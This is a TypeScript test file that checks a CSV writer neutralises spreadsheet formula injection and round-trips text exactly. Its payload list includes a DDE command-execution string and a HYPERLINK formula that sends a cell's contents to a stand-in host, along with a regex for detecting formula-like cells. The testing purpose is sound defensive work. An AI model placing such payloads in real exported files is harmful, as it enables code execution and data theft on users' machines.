import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { openSheet } from '#core/sheets/open-sheet.ts';
import { csvHeader, csvRow, guardCell, unguardCell } from '#core/sheets/write-csv.ts';

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'steward-csv-'));
});
afterAll(() => {
  rmSync(folder, { recursive: true, force: true });
});

const leaders = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '|', '%', "'"];
const prefixes = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '  \t',
  '\u0001',
];
const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.org?"&A1;"x")',
  '1\nx',
  '"quoted"',
];
const payloads = leaders.flatMap((leader) =>
  prefixes.flatMap((prefix) => bodies.map((body) => `${prefix}${leader}${body}`)),
);

/** What Excel, LibreOffice and Google Sheets could take for a formula: the first sign behind blanks and controls. */
function looksLikeFormula(cell: string): boolean {
  return /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell);
}

async function readBack(
  rows: readonly (readonly string[])[],
  columns: readonly string[],
): Promise<string[][]> {
  const path = join(folder, 'sheet.csv');
  writeFileSync(path, csvHeader(columns) + rows.map((row) => csvRow(row)).join(''));
  const sheet = await openSheet(path, { encoding: null, delimiter: null, sheet: null });
  const read: string[][] = [];
  for await (const { cells } of sheet.rows()) read.push([...cells]);
  return read;
}

describe('writing CSV', () => {
  it('leaves no cell that a spreadsheet program would run', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(500);
    expect(payloads.map(guardCell).filter(looksLikeFormula)).toEqual([]);
  });

  it('gives every payload back as it was when the file is read again', async () => {
    // The reader takes NULs and a row of blanks out, which no metadata holds.
    const cells = payloads.map((cell) => cell.replaceAll('\0', ''));
    const read = await readBack(
      cells.map((cell) => ['x', cell, 'y']),
      ['a', 'b', 'c'],
    );
    expect(read.map((row) => row[1])).toEqual(cells);
  });

  it('is undone exactly by its inverse, for any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(unguardCell(guardCell(text))).toBe(text);
        expect(looksLikeFormula(guardCell(text))).toBe(false);
      }),
      { numRuns: 10_000 },
    );
  });

  it('leaves numbers as numbers and files of others as they are', async () => {
    expect(csvRow([-5, "'", true, null])).toBe(`-5,"''","true","",""\r\n`);
    const path = join(folder, 'foreign.csv');
    writeFileSync(path, "id,title\n1,'=SUM(A1)\n");
    const sheet = await openSheet(path, { encoding: null, delimiter: null, sheet: null });
    for await (const { cells } of sheet.rows()) expect(cells).toEqual(['1', "'=SUM(A1)"]);
  });
});
